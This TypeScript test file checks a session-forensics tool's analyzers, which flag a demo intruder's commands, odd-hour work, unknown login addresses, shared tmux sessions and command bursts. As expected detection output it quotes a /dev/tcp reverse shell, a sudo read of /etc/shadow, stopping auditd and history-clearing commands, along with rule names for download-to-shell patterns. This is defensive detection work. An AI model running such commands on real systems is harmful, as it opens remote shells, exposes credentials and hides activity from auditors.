// Analyzers end to end (issue 8): a case with the demo incident and real-tool recordings, analyzed
// after import and with `trailview analyze`; flags checked per analyzer (positive and negative,
// explanations included), re-runs replace flags, `flag:` search filters by them, Sigma rules from
// real rule files, and the CLI's exit codes and JSON.
import { writeFile } from 'node:fs/promises';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { beforeAll, describe, expect, it } from 'vitest';
import { listFlags, type StoredFlag } from '../../electron/services/analyze/flag-store.js';
import { openCase } from '../../electron/services/case/case.js';
import { resourcePath, SAMPLE_VKEY } from '../../electron/services/resources.js';
import { searchCase } from '../../electron/services/search/search.js';
import { tempDir } from '../helpers/bundles.js';
import { demoBundle, FIXTURES } from '../helpers/case-fixtures.js';
import { runCli } from '../helpers/cli.js';

const SIGMA = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '../fixtures/sigma');
let trust: string[];
let demoCase: string;

async function newCase(...items: string[]): Promise<string> {
  const dir = path.join(await tempDir('tv-analyze-'), 'case');
  expect((await runCli(['case', 'new', dir])).code).toBe(0);
  if (items.length > 0) {
    const imported = await runCli(['case', 'import', dir, ...items, ...trust]);
    expect(imported.stderr).toBe('');
    expect(imported.stdout).not.toMatch(/^failed/m);
  }
  return dir;
}

async function flagsOf(dir: string, filter: Parameters<typeof listFlags>[1] = {}): Promise<StoredFlag[]> {
  const handle = await openCase(dir, { readOnly: true });
  try {
    return listFlags(handle.db, filter).flags;
  } finally {
    await handle.close();
  }
}

async function writeRules(extra: string): Promise<string> {
  const file = path.join(await tempDir('tv-rules-'), 'rules.yaml');
  await writeFile(file, `trailview-rules: 1\n${extra}`);
  return file;
}

beforeAll(async () => {
  trust = ['--trust', resourcePath(...SAMPLE_VKEY)];
  demoCase = await newCase(await demoBundle(1, 200_000));
}, 120_000);

describe('after import (demo incident)', () => {
  it('flags mallory’s commands with the starter rules, and not the ordinary ones', async () => {
    const flags = await flagsOf(demoCase, { analyzers: ['commands'] });
    const mallory = flags.filter((f) => f.user === 'mallory').map((f) => f.ruleId);
    expect(new Set(mallory)).toEqual(new Set(['shell.reverse', 'audit.logging-stopped', 'cred.file-read', 'audit.history-off', 'exec.download-to-shell', 'exec.base64-decoded', 'auth.file-edit', 'priv.account-change', 'priv.sudo-list']));
    const reverse = flags.find((f) => f.ruleId === 'shell.reverse');
    expect(reverse?.explanation).toMatch(/^mallory on web-1 ran "bash -i >& \/dev\/tcp\/203\.0\.113\.7\/4444 0>&1" at 2024-11-21 03:\d\d:\d\d UTC: it matches "Reverse shell": a reverse shell hands an interactive shell/);
    expect(reverse?.severity).toBe('critical');
    expect(reverse?.sessionKey).toBe('web-1-pts-3-mallory-1');
    expect(reverse?.seqs).toHaveLength(1);
    // carol's and bob's work is not flagged by the command rules (only housekeeping at low severity)
    const others = flags.filter((f) => f.user === 'carol' || f.user === 'bob');
    expect(others.every((f) => f.severity === 'low')).toBe(true);
  });

  it('anchors point at the command record (session + seq + time)', async () => {
    const handle = await openCase(demoCase, { readOnly: true });
    try {
      const [index] = await handle.openIndexes();
      const flag = listFlags(handle.db, { rules: ['audit.logging-stopped'] }).flags[0];
      const row = index?.exec('SELECT text, ts_us FROM commands WHERE session_id = ? AND seq = ?', [flag?.sessionId ?? -1, flag?.seqs[0] ?? -1])[0]?.values[0];
      expect(row).toEqual(['sudo systemctl stop auditd', flag?.tsUs]);
    } finally {
      await handle.close();
    }
  });

  it('odd hours: everyone’s 02:00–04:00 work is outside the default hours; explained', async () => {
    const flags = await flagsOf(demoCase, { rules: ['odd-hours'] });
    expect(new Set(flags.map((f) => f.user))).toEqual(new Set(['carol', 'bob', 'alice', 'mallory']));
    const mallory = flags.find((f) => f.user === 'mallory' && f.host === 'web-1');
    expect(mallory?.explanation).toMatch(/^mallory ran \d+ commands on web-1 from 2024-11-21 03:0\d:\d\d UTC to 2024-11-21 03:1\d:\d\d UTC, outside their working hours 07:00-20:00 mon,tue,wed,thu,fri \(the default hours of the rules file; too little activity to learn mallory's own hours/);
    expect(mallory?.endUs).toBeGreaterThan(mallory?.tsUs ?? Infinity);
  });

  it('unknown networks: mallory’s login from 198.51.100.23; not the addresses everyone uses', async () => {
    const flags = await flagsOf(demoCase, { rules: ['unknown-network'] });
    const mallory = flags.find((f) => f.user === 'mallory');
    expect(mallory?.explanation).toMatch(/^mallory logged in to web-1 from 198\.51\.100\.23 at 2024-11-21 03:02:\d\d UTC: an address seen in no other session of this case \(known addresses: 10\.0\.0\.5 \(\d sessions\)\)\.$/);
    expect(flags.some((f) => String(f.details.address) === '10.0.0.5')).toBe(false);
  });

  it('shared sessions: alice (read-only) and bob (read-write) joining carol’s tmux session', async () => {
    const flags = await flagsOf(demoCase, { analyzers: ['shared-sessions'] });
    expect(flags.map((f) => [f.user, f.ruleId, f.severity]).sort()).toEqual([
      ['alice', 'shared-session.other-user', 'low'],
      ['bob', 'shared-session.other-user', 'medium'],
    ]);
    expect(flags.find((f) => f.user === 'bob')?.explanation).toMatch(/^bob joined carol's session web-1-tmux-ops on web-1 read-write from \/dev\/pts\/6 at .*: a different user than the session's owner could see and type into it/);
  });

  it('no spikes in the demo: nobody types 30 commands a minute', async () => {
    expect(await flagsOf(demoCase, { analyzers: ['spikes'] })).toEqual([]);
  });

  it('flag: in search finds the flagged commands', async () => {
    const handle = await openCase(demoCase, { readOnly: true });
    try {
      const indexes = await handle.openIndexes();
      const hits = searchCase({ catalog: handle.db, indexes }, 'flag:audit.history-off', { limit: 50 });
      // commands with the flag (screen samples of the same moments match too)
      expect(hits.hits.filter((h) => h.kind === 'command').map((h) => h.text)).toEqual(['unset HISTFILE', 'history -c', 'history -c']);
      const prefix = searchCase({ catalog: handle.db, indexes }, 'flag:audit.* user:mallory', { limit: 50 });
      expect(prefix.hits.map((h) => h.text)).toEqual(expect.arrayContaining(['sudo systemctl stop auditd', 'sudo service auditd stop', 'unset HISTFILE']));
      const none = searchCase({ catalog: handle.db, indexes }, 'flag:shell.reverse user:carol', { limit: 50 });
      expect(none.total).toBe(0);
    } finally {
      await handle.close();
    }
  });
});

describe('trailview analyze', () => {
  it('re-running replaces the flags (same flags, once); --only replaces only that analyzer’s', async () => {
    const before = await flagsOf(demoCase);
    const run = await runCli(['analyze', demoCase, '--json']);
    expect(run.code).toBe(0);
    const doc = JSON.parse(run.stdout) as { total: number; counts: Record<string, number>; flags: Array<{ rule: string; explanation: string; session: string; seqs: number[] }> };
    expect(doc.total).toBe(before.length);
    const after = await flagsOf(demoCase);
    const key = (f: StoredFlag) => `${f.ruleId} ${f.sessionId} ${f.tsUs} ${f.explanation}`;
    expect(after.map(key).sort()).toEqual(before.map(key).sort());
    expect(doc.flags[0]).toMatchObject({ rule: 'shell.reverse', session: 'web-1-pts-3-mallory-1' });

    const rules = await writeRules('rules:\n  - {id: x.uptime, title: Uptime, severity: info, why: a test rule, match: {program: uptime}}\n');
    const only = await runCli(['analyze', demoCase, '--only', 'commands', '--rules', rules, '--json']);
    expect(only.code).toBe(0);
    const flags = await flagsOf(demoCase);
    expect(flags.filter((f) => f.analyzer === 'commands').every((f) => f.ruleId === 'x.uptime')).toBe(true);
    expect(flags.filter((f) => f.ruleId === 'x.uptime').length).toBeGreaterThan(2);
    expect(flags.filter((f) => f.ruleId === 'odd-hours')).toHaveLength(before.filter((f) => f.ruleId === 'odd-hours').length);
    // back to the starter set
    expect((await runCli(['analyze', demoCase, '--default-rules'])).code).toBe(0);
    expect((await flagsOf(demoCase)).map(key).sort()).toEqual(before.map(key).sort());
  }, 60_000);

  it('configured hours, allow-list and production hosts change the verdicts', async () => {
    const rules = await writeRules(`working_hours:
  hours: "00:00-24:00"
  days: mon-sun
  users: {mallory: {hours: "09:00-17:00"}}
networks: {allow: [10.0.0.0/8]}
production_hosts: [web-*]
`);
    const run = await runCli(['analyze', demoCase, '--rules', rules, '--only', 'odd-hours,networks,shared-sessions']);
    expect(run.code).toBe(0);
    const odd = await flagsOf(demoCase, { rules: ['odd-hours'] });
    expect(new Set(odd.map((f) => f.user))).toEqual(new Set(['mallory']));
    expect(odd[0]?.explanation).toMatch(/outside their working hours 09:00-17:00 every day \(mallory's hours in the rules file\)/);
    expect(odd[0]?.severity).toBe('medium');
    const nets = await flagsOf(demoCase, { rules: ['unknown-network'] });
    expect(nets.map((f) => f.user)).toEqual(['mallory']); // 10.8.0.14 (bob) is inside 10.0.0.0/8 now
    expect(nets[0]?.explanation).toMatch(/outside the allowed networks \(10\.0\.0\.0\/8\)/);
    const prod = await flagsOf(demoCase, { rules: ['shared-session.rw-production'] });
    expect(prod.map((f) => [f.user, f.severity, f.host])).toEqual([['bob', 'high', 'web-1']]);
    expect((await runCli(['analyze', demoCase, '--default-rules'])).code).toBe(0);
  }, 60_000);

  it('Sigma rules: loaded, applied, unsupported ones listed with exit 1; remembered for later runs', async () => {
    const dir = await newCase(await demoBundle(2, 150_000));
    const run = await runCli(['analyze', dir, '--sigma', SIGMA, '--only', 'commands', '--json']);
    expect(run.code).toBe(1);
    const doc = JSON.parse(run.stdout) as { rules: { sigma: number }; skipped: Array<{ construct: string; message: string }>; flags: Array<{ rule: string; title: string; explanation: string }> };
    expect(doc.rules.sigma).toBe(5);
    expect(doc.skipped.map((s) => s.construct).sort()).toEqual(['aggregation', 'field Hashes', 'logsource category network_connection', 'logsource product windows', 'modifier base64offset', 'modifier cidr', 'near', 'timeframe']);
    for (const s of doc.skipped) expect(run.stderr).toContain(s.message);
    const sigma = doc.flags.filter((f) => f.rule.startsWith('6f2a1c3e'));
    expect(new Set(sigma.map((f) => f.title))).toEqual(new Set(['Base64 Decoded Text Piped To A Shell', 'Reverse Shell Patterns In Command Line', 'Shell History Cleared By A Non-Root User', 'Shadow File Read With Sudo', 'Download From A Raw IP Address']));
    expect(sigma.find((f) => f.title === 'Shadow File Read With Sudo')?.explanation).toMatch(/ran "sudo cat \/etc\/shadow" .*: it matches Sigma rule "Shadow File Read With Sudo": Detects reading of \/etc\/shadow through sudo\.$/);
    const again = await runCli(['analyze', dir, '--only', 'commands', '--json']);
    expect((JSON.parse(again.stdout) as { rules: { sigma: number } }).rules.sigma).toBe(5);
  }, 60_000);

  it('exit codes: --fail-on, a broken rules file (2, case unchanged), bad options', async () => {
    expect((await runCli(['analyze', demoCase, '--fail-on', 'critical'])).code).toBe(1);
    const quiet = await writeRules('rules: []\n');
    expect((await runCli(['analyze', demoCase, '--rules', quiet, '--only', 'commands', '--fail-on', 'high'])).code).toBe(0);
    const broken = await writeRules('rules:\n  - {id: Bad Id, title: x, severity: low, why: w, match: {command: x}}\n');
    const bad = await runCli(['analyze', demoCase, '--rules', broken]);
    expect(bad.code).toBe(2);
    expect(bad.stderr).toMatch(/rules\.yaml:3: "id" must be lower-case letters/);
    expect((await runCli(['analyze', demoCase, '--only', 'nonsense'])).stderr).toMatch(/--only: unknown analyzer "nonsense"; analyzers: commands, odd-hours/);
    expect((await runCli(['analyze', demoCase, '--fail-on', 'urgent'])).code).toBe(2);
    expect((await runCli(['analyze', demoCase, '--default-rules'])).code).toBe(0);
  }, 60_000);
});

describe('real-tool recordings', () => {
  it('tmux hooks: tvbob joining tvalice’s session read-only is flagged; tvalice’s own attach is not', async () => {
    const dir = await newCase(path.join(FIXTURES, 'tmux'));
    const flags = await flagsOf(dir, { analyzers: ['shared-sessions'] });
    expect(flags.map((f) => [f.user, f.ruleId, f.severity])).toEqual([['tvbob', 'shared-session.other-user', 'low']]);
    expect(flags[0]?.explanation).toMatch(/^tvbob joined tvalice's session .* read-only from \/dev\/pts\/1 at 2026-11-21 06:36:28 UTC/);
  }, 60_000);

  it('ordinary fixture sessions (asciicast, history, script, ttyrec) raise no command flags', async () => {
    const dir = await newCase(path.join(FIXTURES, 'asciicast', 'session.cast'), path.join(FIXTURES, 'history', 'bash_history'), path.join(FIXTURES, 'script', 'classic.typescript'), path.join(FIXTURES, 'ttyrec', 'session.ttyrec'));
    const handle = await openCase(dir, { readOnly: true });
    try {
      const commands = (await handle.openIndexes()).reduce((n, db) => n + Number(db.exec('SELECT count(*) FROM commands')[0]?.values[0]?.[0]), 0);
      expect(commands).toBeGreaterThan(5);
      expect(listFlags(handle.db, { analyzers: ['commands', 'spikes'] }).flags).toEqual([]);
    } finally {
      await handle.close();
    }
  }, 60_000);

  it('sudo I/O log (recorded on a Saturday at 06:26 UTC): odd hours against the default hours, none when every hour is working time', async () => {
    const dir = await newCase(path.join(FIXTURES, 'sudo', 'iolog'));
    const flags = await flagsOf(dir);
    expect(flags.filter((f) => f.analyzer === 'commands')).toEqual([]); // id, tr, sh -c echo: nothing sensitive
    const odd = flags.filter((f) => f.ruleId === 'odd-hours');
    expect(new Set(odd.map((f) => f.user))).toEqual(new Set(['nobody', 'tvrec', 'root']));
    const root = odd.find((f) => f.user === 'root');
    expect(root?.sessionKey).toMatch(/^sudo-vm-00000[2-5]$/);
    expect(root?.explanation).toMatch(/^root ran 1 command on vm at 2026-11-21 06:26:\d\d UTC, outside their working hours 07:00-20:00 mon,tue,wed,thu,fri \(the default hours of the rules file; too little activity to learn root's own hours \(4 commands on 1 day; needs 200 on 5\)\)\.$/);
    const always = await writeRules('working_hours: {hours: "00:00-24:00", days: mon-sun}\n');
    expect((await runCli(['analyze', dir, '--rules', always])).code).toBe(0);
    expect(await flagsOf(dir, { rules: ['odd-hours'] })).toEqual([]);
  }, 60_000);
});

describe('spikes', () => {
  it('a burst far above the user’s own rate is flagged; the same user’s steady work is not', async () => {
    const dir = await tempDir('tv-spike-');
    const t0 = Date.UTC(2024, 10, 20, 9, 0, 0);
    const lines: string[] = [];
    const ts = (ms: number) => new Date(ms).toISOString();
    lines.push(JSON.stringify({ ts: ts(t0), type: 'session.start', session: 's1', user: 'dave', host: 'build-1', tty: '/dev/pts/1', remote: '10.0.0.5', term: 'xterm', cols: 80, rows: 24, recorder: { name: 'test', format: 'events' } }));
    let t = t0;
    // steady: one command every 40 s for 3 hours
    for (let i = 0; i < 270; i++) lines.push(JSON.stringify({ ts: ts((t += 40_000)), type: 'cmd', session: 's1', text: `make test-${i}`, source: 'recorder', confidence: 1 }));
    // burst: 120 commands within 60 s
    const burstStart = t + 60_000;
    for (let i = 0; i < 120; i++) lines.push(JSON.stringify({ ts: ts(burstStart + i * 500), type: 'cmd', session: 's1', text: `scp /srv/data/${i}.tgz x:`, source: 'recorder', confidence: 1 }));
    lines.push(JSON.stringify({ ts: ts(burstStart + 120_000), type: 'session.end', session: 's1', exitStatus: 0 }));
    const events = path.join(dir, 'events.jsonl');
    await writeFile(events, `${lines.join('\n')}\n`);
    const bundle = path.join(dir, 'spike.trail');
    const sealed = await runCli(['seal', '--origin', 'test.example/spike', '--out', bundle, events]);
    expect(sealed.stderr).toBe('');
    const caseDir = await newCase(bundle);
    const flags = await flagsOf(caseDir, { analyzers: ['spikes'] });
    expect(flags).toHaveLength(1);
    const f = flags[0] as StoredFlag;
    expect(f.tsUs).toBeGreaterThanOrEqual(burstStart * 1000);
    expect(f.details).toMatchObject({ peak: 120, commands: 120 });
    const baseline = Number(f.details.baseline);
    expect(baseline).toBeGreaterThanOrEqual(1); // one command every 40 s: 1 or 2 per minute
    expect(baseline).toBeLessThanOrEqual(2);
    expect(f.explanation).toMatch(new RegExp(`^dave ran 120 commands on build-1 from 2024-11-20 \\d\\d:\\d\\d:\\d\\d UTC to .*, up to 120 within 60 s: ${Math.round(120 / baseline)}× their usual ${baseline} per 60 s`));
    expect(f.seqs).toHaveLength(120);
  }, 60_000);
});
